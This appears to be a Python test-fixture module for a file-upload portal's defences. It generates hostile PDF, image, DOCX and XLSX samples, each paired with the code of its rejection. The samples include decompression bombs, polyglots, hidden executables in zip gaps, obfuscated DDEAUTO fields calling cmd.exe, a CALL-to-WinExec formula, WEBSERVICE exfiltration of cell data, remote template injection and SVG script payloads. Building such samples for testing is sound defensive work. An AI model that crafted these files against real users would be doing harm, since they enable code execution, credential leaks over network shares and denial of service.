"""Files made to hurt whoever opens them, or to fetch and start things: each with the code of its refusal."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.portal.shared import samples as make

MEGABYTE = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
DOCX_RELS, XLSX_RELS = "word___rels__document_dot_xml_dot_rels", "xl___rels__workbook_dot_xml_dot_rels"


def nested_forms(depth: int, times: int):
    """Drawings that draw the next one several times: a few kilobytes, and times ** depth drawings."""

    def change(document):
        below = None
        for _ in range(depth):
            form = document.make_stream(b"/F Do\n" * times if below is not None else b"0 0 10 10 re f")
            form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
            form.Group = Dictionary(S=Name.Transparency)
            if below is not None:
                form.Resources = Dictionary(XObject=Dictionary(F=below))
            below = form
        page = document.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(F=below))
        page.Contents = document.make_stream(b"/F Do\n" * times)

    return change


def draws_itself(name: bytes):
    """By its plain name, or by one in figures that readers take for the same."""

    def change(document):
        form = document.make_stream(name + b" Do")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        form.Resources = Dictionary(XObject=Dictionary(F1=form))
        page = document.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(F1=form))
        page.Contents = document.make_stream(b"/F1 Do")

    return change


def raw_stream(content: bytes, **told):
    """A stream that the page draws as its content."""

    def change(document):
        stream = document.make_stream(b"")
        stream.write(content, filter=told.get("Filter"), decode_parms=told.get("DecodeParms"))
        document.pages[0].obj.Contents = stream

    return change


def drawn_picture(content: bytes, **told):
    def change(document):
        picture = document.make_stream(b"")
        picture.write(content, filter=told.pop("Filter"))
        picture.Type, picture.Subtype = Name.XObject, Name.Image
        for key, value in told.items():
            picture[f"/{key}"] = value
        page = document.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(P=picture))
        page.Contents = document.make_stream(b"500 0 0 700 20 20 cm /P Do")

    return change


def jbig2(width: int, height: int) -> bytes:
    page = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    return struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page


@cache
def double_flate() -> bytes:
    return zlib.compress(zlib.compress(b"0 g\n" * (60 * MEGABYTE), 9), 9)


@cache
def content_bomb() -> bytes:
    return zlib.compress(b"0 0 m 595 842 l 0 842 l 595 0 l h f\n" * 1_500_000, 9)


@cache
def many_objects() -> bytes:
    """300,000 objects with nothing in them, under an index of their own."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ] + [b"<</A[1 2 3]>>"] * 300_000
    for number, body in enumerate(bodies, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start))
    return out.getvalue()


def many_scans(scans: int = 1500, side: int = 5000) -> bytes:
    """A progressive JPEG whose last pass is said again and again."""
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True, quality=1)
    base = out.getvalue()
    at = base.rindex(b"\xff\xda")
    return base[:at] + base[at:-2] * scans + b"\xff\xd9"


def jpeg_with(marker: int, carried: bytes) -> bytes:
    base = make.picture("JPEG")
    return base[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(carried) + 2) + carried + base[2:]


def png_with(kind: bytes, carried: bytes) -> bytes:
    base = make.picture()
    chunk = struct.pack(">I", len(carried)) + kind + carried + struct.pack(">I", zlib.crc32(kind + carried))
    return base[:33] + chunk + base[33:]


def wide_png(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = b"IDAT" + zlib.compress(bytes(1000))
    tail = b"IEND"
    parts = [
        struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part))
        for part in (head, body, tail)
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def goto_elsewhere(target) -> bytes:
    return make.pdf(make.note(Subtype=Name.Link, A=make.action("GoToR", F=target, D=Array([0, Name.Fit]))))


def external_stream(document):
    stream = document.make_stream(b"")
    stream.stream_dict["/F"] = String("\\\\server\\share\\page")
    document.pages[0].obj.Contents = stream


def docx_field(*runs: str) -> bytes:
    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return make.docx(
        word__document_dot_xml=f"<w:document><w:p>{begin}{parts}{end}</w:p></w:document>".encode()
    )


def quoted_dde() -> bytes:
    """DDEAUTO spelled by character codes in inner fields."""
    inner = '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDEAUTO</w:t><w:fldChar w:fldCharType="end"/>'
    text = f'<w:document><w:fldChar w:fldCharType="begin"/>{inner}<w:instrText> c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:document>'
    return make.docx(word__document_dot_xml=text.encode())


def result_dde() -> bytes:
    """The word comes out of an inner field, without any code in it."""
    inner = '<w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDE</w:t><w:t>AUTO</w:t><w:fldChar w:fldCharType="end"/>'
    text = f'<w:document><w:fldChar w:fldCharType="begin"/>{inner}<w:instrText> c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:document>'
    return make.docx(word__document_dot_xml=text.encode())


def sheet(formula: str) -> bytes:
    text = f'<worksheet><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    return make.xlsx(xl__worksheets__sheet1_dot_xml=text.encode())


EXTERNAL = ' TargetMode="External"'


def overlapping() -> bytes:
    """Two directory records that unpack the same bytes."""
    base = make.package({"xl/workbook.xml": b"<workbook/>", "xl/a.bin": b"a" * 50, "xl/b.bin": b"b" * 50})
    first = base.index(b"PK\x01\x02", base.index(b"PK\x01\x02") + 4)
    second = base.index(b"PK\x01\x02", first + 4)
    content = bytearray(base)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def hidden_gap() -> bytes:
    """A program between two entries that no directory names."""
    base = make.package({"xl/workbook.xml": b"<workbook/>", "xl/b.xml": b"<b/>"})
    second = base.index(b"PK\x03\x04", 4)
    hidden = b"MZ" + bytes(5000)
    content = bytearray(base[:second] + hidden + base[second:])
    record = content.rindex(b"PK\x01\x02")
    content[record + 42 : record + 46] = struct.pack("<L", second + len(hidden))
    end = content.rindex(b"PK\x05\x06")
    place = struct.unpack("<L", content[end + 16 : end + 20])[0]
    content[end + 16 : end + 20] = struct.pack("<L", place + len(hidden))
    return bytes(content)


def shared_strings(count: int = 6_000_000) -> bytes:
    return make.xlsx(xl__sharedStrings_dot_xml=b"<sst>" + b"<si/>" * count + b"</sst>")


def quadratic(text: bytes) -> bytes:
    return make.xlsx(xl__worksheets__sheet1_dot_xml=b"<worksheet>" + text + b"</worksheet>")


ATTACKS = {
    "pdf: forms nested 25 deep": ("a.pdf", lambda: make.pdf(nested_forms(25, 2)), "nested_forms"),
    "pdf: form that draws itself": ("a.pdf", lambda: make.pdf(draws_itself(b"/F1")), "nested_forms"),
    "pdf: form that draws itself by figures": (
        "a.pdf",
        lambda: make.pdf(draws_itself(b"/#461")),
        "nested_forms",
    ),
    "pdf: forms that draw themselves eight times": ("a.pdf", lambda: make.pdf(nested_forms(14, 8)), "heavy"),
    "pdf: endless content": (
        "a.pdf",
        lambda: make.pdf(raw_stream(content_bomb(), Filter=Name.FlateDecode)),
        "heavy",
    ),
    "pdf: unpacks to gigabytes": (
        "a.pdf",
        lambda: make.pdf(raw_stream(zlib.compress(bytes(200 * MEGABYTE), 9), Filter=Name.FlateDecode)),
        "bomb_pdf",
    ),
    "pdf: packed twice": (
        "a.pdf",
        lambda: make.pdf(
            raw_stream(double_flate(), Filter=Array([Name.FlateDecode, Name.FlateDecode])),
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.none,
        ),
        "repacked",
    ),
    "pdf: jbig2 header": (
        "a.pdf",
        lambda: make.pdf(
            drawn_picture(
                jbig2(60_000, 58_000),
                Filter=Name.JBIG2Decode,
                Width=10,
                Height=10,
                BitsPerComponent=1,
                ColorSpace=Name.DeviceGray,
            )
        ),
        "huge_picture",
    ),
    "pdf: picture of 60,000 by 60,000": (
        "a.pdf",
        lambda: make.pdf(
            drawn_picture(
                zlib.compress(bytes(1000)),
                Filter=Name.FlateDecode,
                Width=60_000,
                Height=60_000,
                BitsPerComponent=8,
                ColorSpace=Name.DeviceRGB,
            )
        ),
        "huge_picture",
    ),
    "pdf: jpeg of many passes inside": (
        "a.pdf",
        lambda: make.pdf(
            drawn_picture(
                many_scans(side=400),
                Filter=Name.DCTDecode,
                Width=400,
                Height=400,
                BitsPerComponent=8,
                ColorSpace=Name.DeviceGray,
            )
        ),
        "huge_picture",
    ),
    "pdf: 300,000 objects": ("a.pdf", many_objects, "too_many_objects"),
    "pdf: shared folder": (
        "a.pdf",
        lambda: goto_elsewhere(String("\\\\10.0.0.1\\share\\a.pdf")),
        "elsewhere",
    ),
    "pdf: shared folder in a specification": (
        "a.pdf",
        lambda: goto_elsewhere(Dictionary(Type=Name.Filespec, UF=String("//10.0.0.1/share/a.pdf"))),
        "elsewhere",
    ),
    "pdf: shared folder as an address": (
        "a.pdf",
        lambda: make.pdf(
            make.note(Subtype=Name.Link, A=make.action("URI", URI=String("file://server/share/a")))
        ),
        "elsewhere",
    ),
    "pdf: content in another file": ("a.pdf", lambda: make.pdf(external_stream), "elsewhere"),
    "pdf: opens a web page": (
        "a.pdf",
        lambda: make.pdf(make.on_root("/OpenAction", lambda: make.action("URI", URI=String("http://a/")))),
        "active_pdf",
    ),
    "pdf: opens a web page with its page": (
        "a.pdf",
        lambda: make.pdf(
            make.on_page("/AA", lambda: Dictionary(O=make.action("URI", URI=String("http://a/"))))
        ),
        "active_pdf",
    ),
    "pdf: a program as an address": (
        "a.pdf",
        lambda: make.pdf(
            make.note(
                Subtype=Name.Link, A=make.action("URI", URI=String("search-ms:query=a&crumb=location:b"))
            )
        ),
        "elsewhere",
    ),
    "pdf: an archive as well": ("a.pdf", make.archive_as_well, "trailing"),
    "pdf: page as an attachment": (
        "a.pdf",
        lambda: make.pdf(attached("a.xml", b"<html><script>1</script></html>")),
        "embedded",
    ),
    "pdf: program as a voucher": ("a.pdf", lambda: make.pdf(attached("a.xml", b"MZ\x90\x00")), "embedded"),
    "pdf: text as an attachment": (
        "a.pdf",
        lambda: make.pdf(attached("a.exe", b"<?xml version='1.0'?><a/>")),
        "embedded",
    ),
    "jpg: many passes": ("a.jpg", lambda: many_scans(), "scans"),
    "jpg: carries a pdf": ("a.jpg", lambda: jpeg_with(0xFE, make.pdf()), "carried"),
    "jpg: carries an archive": ("a.jpg", lambda: jpeg_with(0xE5, make.xlsx()), "carried"),
    "jpg: carries a page": ("a.jpg", lambda: jpeg_with(0xFE, b"<script>alert(1)</script>"), "carried"),
    "png: 49 million by one": ("a.png", lambda: wide_png(49_000_000, 1), "long_side"),
    "png: carries a page": ("a.png", lambda: png_with(b"tEXt", b"a\0<html><script>1</script>"), "carried"),
    "png: carries a pdf": ("a.png", lambda: png_with(b"raNd", make.pdf()), "carried"),
    "png: rows are missing": ("a.png", lambda: wide_png(4000, 3000), "broken_image"),
    "xlsx: relations without an end": (
        "a.xlsx",
        lambda: make.xlsx(
            **{XLSX_RELS: b"<Relationships>" + b"<Relationship " * 30_000 + b"</Relationships>"}
        ),
        "broken_markup",
    ),
    "xlsx: formulas without an end": (
        "a.xlsx",
        lambda: quadratic(b"<f>" * 390 + b"a|" * 20_000),
        "broken_markup",
    ),
    "xlsx: a formula as long as a book": (
        "a.xlsx",
        lambda: quadratic(b"<f>" + b"a" * 100_000 + b"</f>"),
        "too_deep",
    ),
    "xlsx: nested without an end": ("a.xlsx", lambda: quadratic(b"<a>" * 100_000), "too_deep"),
    "xlsx: shared strings": ("a.xlsx", shared_strings, "bomb"),
    "xlsx: overlapping": ("a.xlsx", overlapping, "overlap"),
    "xlsx: hidden between": ("a.xlsx", hidden_gap, "overlap"),
    "xlsx: far cell": (
        "a.xlsx",
        lambda: quadratic(b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        "far_cell",
    ),
    "xlsx: a million rows": (
        "a.xlsx",
        lambda: quadratic(
            b"".join(
                b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n) for n in range(1, 1_000_000, 7)
            )
        ),
        "far_cell",
    ),
    "docx: virus test file": ("a.docx", lambda: make.docx(word__media__a_dot_bin=EICAR), "program"),
    "xlsx: webservice": ("a.xlsx", lambda: sheet('_xlfn.WEBSERVICE("http://a/"&amp;A1)'), "remote"),
    "xlsx: web picture": ("a.xlsx", lambda: sheet('_xlfn.IMAGE("http://a/p.png")'), "remote"),
    "xlsx: dde in a quoted name": ("a.xlsx", lambda: sheet("'cmd'|'/c calc'!A0"), "dde"),
    "xlsx: call": ("a.xlsx", lambda: sheet('1+CALL("Kernel32","WinExec","JCJ","calc",0)'), "dde"),
    "xlsx: shared folder by formula": (
        "a.xlsx",
        lambda: sheet('HYPERLINK("\\\\server\\share\\a","link")'),
        "shared_folder",
    ),
    "docx: a workbook that no chart shows": (
        "a.docx",
        lambda: make.docx(
            **{
                DOCX_RELS: make.relation("package", "embeddings/a.xlsx"),
                "word__embeddings__a_dot_xlsx": make.xlsx(),
            }
        ),
        "ole_object",
    ),
    "docx: dde in a chart's figures": ("a.docx", lambda: make.charted(sheet("cmd|'/c calc'!A0")), "dde"),
    "docx: a workbook in a chart's figures": (
        "a.docx",
        lambda: make.charted(
            make.xlsx(xl__embeddings__a_dot_xlsx=make.xlsx(), xl__charts__c_dot_xml=b"<c/>")
        ),
        "ole_object",
    ),
    "xlsx: other workbook by path": (
        "a.xlsx",
        lambda: sheet("'\\\\server\\share\\[a.xlsx]S'!A1"),
        "external",
    ),
    "xlsx: connection": (
        "a.xlsx",
        lambda: make.xlsx(
            xl__connections_dot_xml=b'<connections><connection id="1" refreshOnLoad="1"/></connections>'
        ),
        "remote",
    ),
    "xlsx: web query": (
        "a.xlsx",
        lambda: make.xlsx(
            xl__connections_dot_xml=b'<connections><connection id="1"><webPr url="http://a/"/></connection></connections>'
        ),
        "remote",
    ),
    "xlsx: other workbook under another name": (
        "a.xlsx",
        lambda: make.xlsx(xl__a__b_dot_xml=b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
        "external",
    ),
    "xlsx: markup under another name": (
        "a.xlsx",
        lambda: make.xlsx(xl__a_dot_bin=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
        "entities",
    ),
    "docx: hyperlink in the address of a template": (
        "a.docx",
        lambda: make.docx(
            word___rels__settings_dot_xml_dot_rels=make.relation(
                "attachedTemplate", "http://a/hyperlink", EXTERNAL
            )
        ),
        "remote",
    ),
    "docx: external by an entity": (
        "a.docx",
        lambda: make.docx(
            **{DOCX_RELS: make.relation("image", "http://a/p.png", ' TargetMode="&#69;xternal"')}
        ),
        "remote",
    ),
    "docx: external in utf-16": (
        "a.docx",
        lambda: make.docx(
            **{DOCX_RELS: make.relation("image", "http://a/p.png", EXTERNAL).decode().encode("utf-16")}
        ),
        "remote",
    ),
    "docx: address without a mode": (
        "a.docx",
        lambda: make.docx(**{DOCX_RELS: make.relation("attachedTemplate", "https://a/t.dotm")}),
        "remote",
    ),
    "docx: template in a shared folder": (
        "a.docx",
        lambda: make.docx(
            **{DOCX_RELS: make.relation("attachedTemplate", "file:///\\\\server\\share\\t.dotm", EXTERNAL)}
        ),
        "remote",
    ),
    "docx: link to a shared folder": (
        "a.docx",
        lambda: make.docx(**{DOCX_RELS: make.relation("hyperlink", "file:////server/share/a.doc", EXTERNAL)}),
        "shared_folder",
    ),
    "docx: picture from the web": (
        "a.docx",
        lambda: docx_field(' INCLUDEPICTURE "http://a/p.png" \\d '),
        "remote",
    ),
    "docx: picture from a shared folder": (
        "a.docx",
        lambda: docx_field(' INCLUDEPICTURE "\\\\\\\\server\\\\p.png" '),
        "remote",
    ),
    "docx: picture address in runs": (
        "a.docx",
        lambda: docx_field(" INCLUDE", 'PICTURE "ht', 'tp://a/p.png"'),
        "remote",
    ),
    "docx: text from elsewhere": ("a.docx", lambda: docx_field(' INCLUDETEXT "c:\\\\a.docx" '), "remote"),
    "docx: dde in runs": ("a.docx", lambda: docx_field(" DD", "EAU", "TO c:\\\\cmd.exe"), "dde"),
    "docx: dde by numbers": ("a.docx", quoted_dde, "dde"),
    "docx: dde by a result": ("a.docx", result_dde, "dde"),
    "docx: another document": (
        "a.docx",
        lambda: make.docx(
            **{DOCX_RELS: make.relation("aFChunk", "/word/a.html"), "word__a_dot_html": b"<html></html>"}
        ),
        "chunk",
    ),
    "docx: another document by its element": (
        "a.docx",
        lambda: make.docx(word__document_dot_xml=b"<w:document><w:altChunk r:id='r1'/></w:document>"),
        "chunk",
    ),
    "docx: drawing from the web": (
        "a.docx",
        lambda: make.docx(word__a_dot_vml=b'<xml><v:imagedata src="http://a/p.png"><br></xml>'),
        "remote",
    ),
    "docx: script in a drawing": (
        "a.docx",
        lambda: make.docx(word__media__a_dot_svg=b"<svg><script>1</script></svg>"),
        "script",
    ),
    "docx: a drawing that reacts": (
        "a.docx",
        lambda: make.docx(word__media__a_dot_svg=b'<svg onload="alert(1)"><g/></svg>'),
        "script",
    ),
    "docx: a link that runs in a drawing": (
        "a.docx",
        lambda: make.docx(word__media__a_dot_svg=b'<svg><a xlink:href=" JavaScript:alert(1)"/></svg>'),
        "script",
    ),
    "docx: a picture from the web in a drawing": (
        "a.docx",
        lambda: make.docx(word__media__a_dot_svg=b'<svg><image href="http://a.example/b.png"/></svg>'),
        "remote",
    ),
    "docx: object linked without a relation": (
        "a.docx",
        lambda: make.docx(
            word__document_dot_xml=b'<w:document xmlns:w="w" xmlns:o="o"><o:OLEObject Type="Link"/></w:document>'
        ),
        "ole_object",
    ),
    "docx: an element of 20,000 attributes": (
        "a.docx",
        lambda: make.docx(
            word__document_dot_xml=b"<w %s/>" % b" ".join(b'a%d="%d"' % (n, n * n) for n in range(20_000))
        ),
        "too_deep",
    ),
}


def attached(name: str, content: bytes):
    def change(document):
        document.attachments[name] = content

    return change
